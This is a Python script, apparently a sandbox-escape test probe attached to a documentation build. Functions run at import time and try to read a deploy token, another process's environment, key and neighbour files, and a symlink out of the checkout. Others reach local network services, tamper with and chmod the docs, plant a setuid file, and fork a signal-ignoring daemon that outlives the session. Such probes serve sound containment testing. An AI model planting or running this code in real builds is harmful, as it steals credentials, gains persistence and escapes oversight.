

# What follows was added by somebody who wants more than documentation. It knows all paths and ports: only the sandbox is in its way.
import json, os, signal, socket, sys, time

here = os.path.dirname(os.path.abspath(__file__))
artifacts = os.path.dirname(sys.argv[-1])
targets = json.load(open(os.path.join(here, "targets.json")))


def attack(function):
    try:
        said = function()
    except OSError as error:
        said = f"{type(error).__name__}: {error}"
    print(f"attack {function.__name__}: {said}", flush=True)


@attack
def variable():
    return os.environ.get("DEPLOY_TOKEN", "there is no such variable")


@attack
def process():
    return open(f"/proc/{targets['agent']}/environ").read().replace("\0", " ")


@attack
def key():
    return open(targets["key"]).read()


@attack
def neighbour():
    return open(targets["neighbour"]).read()


@attack
def link():  # a part of the checkout, and leads out of it
    return open(os.path.join(here, "_static", "link")).read()


@attack
def server():
    socket.create_connection(("127.0.0.1", targets["server"]), timeout=2).close()
    return "connected"


@attack
def resolver():
    question = b"\x07secrets\x07example\0\0\x01\0\x01"
    address = ("127.0.0.1", targets["resolver"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        client.connect(address)
        client.send(b"\x12\x34\x01\0\0\x01" + b"\0" * 6 + question)
        client.recv(512)
    return "has answered"


@attack
def checkout():
    open(os.path.join(here, "index.rst"), "a").write("\nBought from us.\n")
    return "changed"


@attack
def modes():
    os.chmod(os.path.join(here, "index.rst"), 0o600)
    return "changed"


@attack
def setid():
    path = os.path.join(artifacts, "setid")
    open(path, "w").close()
    os.chmod(path, 0o6755)
    return "planted"


@attack
def outlive():
    alive = os.path.join(artifacts, "alive")
    if os.fork() == 0:
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 256)
        for _ in range(12000):  # ten minutes
            with open(alive, "a") as file:
                file.write(f"{os.getpid()}\n")
            time.sleep(0.05)
        os._exit(0)
    time.sleep(0.5)
    return f"has left, and has written {os.path.getsize(alive)} bytes"
